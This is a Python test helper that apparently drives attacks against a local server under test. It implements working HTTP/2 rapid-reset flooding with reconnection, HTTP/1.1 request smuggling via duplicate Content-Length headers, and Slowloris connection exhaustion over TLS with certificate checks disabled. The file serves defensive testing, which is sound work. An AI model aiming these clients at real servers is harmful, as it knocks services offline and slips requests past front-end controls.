#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
# edge_attacks.py - attack clients for test_edge_attacks.c (Debian's python3-h2 for HPACK and frames)
#
#   edge_attacks.py flood PORT PAIRS AUTHORITY      HTTP/2 rapid reset over cleartext (prior knowledge),
#                                                   reconnecting until PAIRS pairs are sent
#   edge_attacks.py smuggle PORT SNI                HTTP/1.1 over TLS, two Content-Length headers
#   edge_attacks.py slowloris PORT CONNS HOLD_S SNI CONNS TLS connections with half-sent requests held
#                                                   HOLD_S, then closed
# Each prints one JSON object on stdout.
import json
import select
import socket
import ssl
import struct
import sys
import time

from hpack import Encoder
from hyperframe.frame import Frame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(ftype, flags, stream_id, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream_id) + payload


def parse_frames(buf, seen):
    """Consumes whole frames from buf (bytearray); records GOAWAY error codes in seen."""
    while len(buf) >= 9:
        f, length = Frame.parse_frame_header(memoryview(bytes(buf[:9])))
        if len(buf) < 9 + length:
            return
        if f.type == 0x7:
            seen.append(struct.unpack(">I", bytes(buf[13:17]))[0])
        del buf[: 9 + length]


def flood(port, pairs, authority):
    """Connection after connection, until `pairs` pairs are sent in all (a server that closes
    abusive connections meets an attacker that reconnects)."""
    total, conns, goaways, closed, t0 = 0, 0, 0, 0, time.monotonic()
    while total < pairs:
        res = flood_connection(port, pairs - total, authority)
        total, conns = total + res["pairs_sent"], conns + 1
        goaways += 11 in res["goaway"]
        closed += res["closed"]
        if not res["closed"]:
            break
    return {"pairs_sent": total, "connections": conns, "goaway_enhance_your_calm": goaways, "closed": closed,
            "seconds": round(time.monotonic() - t0, 3)}


def flood_connection(port, pairs, authority):
    """The client preface and SETTINGS, then HEADERS(END_STREAM|END_HEADERS) + RST_STREAM(CANCEL)
    on stream ids 1, 3, 5, ... as fast as the socket takes them, reading what comes back."""
    enc = Encoder()
    hdrs = [(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", "/flood")]
    blocks = [enc.encode(hdrs), enc.encode(hdrs)]  # the second one only uses indexed fields
    s = socket.create_connection(("127.0.0.1", port))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.sendall(PREFACE + frame(0x4, 0, 0, b""))
    s.setblocking(False)
    inbuf, goaways, sent, closed, out = bytearray(), [], 0, False, b""
    sid, t0 = 1, time.monotonic()
    rst = lambda i: frame(0x3, 0, i, struct.pack(">I", 8))
    while not closed and (sent < pairs or out):
        if not out:
            n = min(500, pairs - sent)
            out = b"".join(frame(0x1, 0x5, sid + 2 * k, blocks[min(sid + 2 * k, 3) // 3]) + rst(sid + 2 * k)
                           for k in range(n))
            sid, sent = sid + 2 * n, sent + n
        r, w, _ = select.select([s], [s], [], 5)
        if r:
            try:
                data = s.recv(65536)
            except (ConnectionResetError, BrokenPipeError):
                data = b""
            if not data:
                closed = True
            inbuf += data
            parse_frames(inbuf, goaways)
        if w and not closed:
            try:
                out = out[s.send(out):]
            except (ConnectionResetError, BrokenPipeError):
                closed = True
    # Everything sent (or the peer closed): wait up to 5 s for the server to end the connection.
    deadline = time.monotonic() + 5
    while not closed and time.monotonic() < deadline:
        r, _, _ = select.select([s], [], [], 0.2)
        if r:
            try:
                data = s.recv(65536)
            except ConnectionResetError:
                data = b""
            closed = not data
            inbuf += data
            parse_frames(inbuf, goaways)
    s.close()
    return {"pairs_sent": sent, "goaway": goaways, "closed": closed, "seconds": round(time.monotonic() - t0, 3)}


def smuggle(port, sni):
    """A request with Content-Length 0 and 40 whose 40 bytes are a second request."""
    inner = b"GET /smuggled HTTP/1.1\r\nHost: " + sni.encode() + b"\r\n\r\n"
    inner = inner + b"X" * (40 - len(inner)) if len(inner) < 40 else inner[:40]
    req = (b"POST /first HTTP/1.1\r\nHost: " + sni.encode() + b"\r\nContent-Length: 0\r\n"
           b"Content-Length: 40\r\n\r\n" + inner)
    s = tls_context().wrap_socket(socket.create_connection(("127.0.0.1", port)), server_hostname=sni)
    s.settimeout(5)
    s.sendall(req)
    data, closed = b"", False
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                closed = True
                break
            data += chunk
    except (socket.timeout, ssl.SSLError, ConnectionResetError) as e:
        closed = not isinstance(e, socket.timeout)
    s.close()
    statuses = [int(line.split()[1]) for line in data.split(b"\r\n") if line.startswith(b"HTTP/1.1 ")]
    return {"statuses": statuses, "closed": closed}


def tls_context():
    ctx = ssl.create_default_context()
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    ctx.set_alpn_protocols(["http/1.1"])
    return ctx


def slowloris(port, conns, hold, sni):
    """conns TLS connections each sending an unfinished request head, held open, then all closed."""
    socks, ctx = [], tls_context()
    for _ in range(conns):
        s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port)), server_hostname=sni)
        s.sendall(b"GET / HTTP/1.1\r\nHost: slow.test\r\nX-Pad: " + b"a" * 2000)
        socks.append(s)
    time.sleep(hold)
    for s in socks:
        s.close()
    return {"connections": len(socks)}


def main():
    cmd = sys.argv[1]
    if cmd == "flood":
        res = flood(int(sys.argv[2]), int(sys.argv[3]), sys.argv[4])
    elif cmd == "smuggle":
        res = smuggle(int(sys.argv[2]), sys.argv[3])
    elif cmd == "slowloris":
        res = slowloris(int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), sys.argv[5])
    else:
        sys.exit("unknown command " + cmd)
    print(json.dumps(res), flush=True)


if __name__ == "__main__":
    main()
